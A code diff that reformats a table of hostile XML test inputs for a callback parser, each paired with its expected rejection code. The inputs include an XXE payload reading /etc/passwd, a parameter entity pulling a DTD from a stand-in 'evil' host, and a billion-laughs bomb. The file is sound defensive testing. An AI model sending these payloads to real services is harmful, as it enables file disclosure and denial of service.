@@ -28,11 +28,19 @@ const tenMiB = Buffer.alloc(10 * 1024 * 1024, 0x20);
 tenMiB.write('<xml><Encrypt>', 0);
 
 const hostileXml: [string, RawBody, string][] = [
-  ['XXE (external entity)', '<!DOCTYPE xml [<!ENTITY x SYSTEM "file:///etc/passwd">]><xml><MsgType>&x;</MsgType></xml>', 'callback_xml_dtd_forbidden'],
+  [
+    'XXE (external entity)',
+    '<!DOCTYPE xml [<!ENTITY x SYSTEM "file:///etc/passwd">]><xml><MsgType>&x;</MsgType></xml>',
+    'callback_xml_dtd_forbidden',
+  ],
   ['XXE (parameter entity)', '<!DOCTYPE xml [<!ENTITY % p SYSTEM "http://evil/x.dtd"> %p;]><xml/>', 'callback_xml_dtd_forbidden'],
   ['billion laughs', bomb, 'callback_xml_dtd_forbidden'],
   ['10 MiB body', tenMiB, 'callback_body_too_large'],
-  ['non-UTF-8 bytes', Uint8Array.from([0x3c, 0x78, 0x6d, 0x6c, 0x3e, 0xff, 0xfe, 0x3c, 0x2f, 0x78, 0x6d, 0x6c, 0x3e]), 'callback_body_not_utf8'],
+  [
+    'non-UTF-8 bytes',
+    Uint8Array.from([0x3c, 0x78, 0x6d, 0x6c, 0x3e, 0xff, 0xfe, 0x3c, 0x2f, 0x78, 0x6d, 0x6c, 0x3e]),
+    'callback_body_not_utf8',
+  ],
   ['malformed XML', '<xml><MsgType>text</xml>', 'callback_xml_malformed'],
   ['empty body', '', 'callback_body_empty'],
 ];
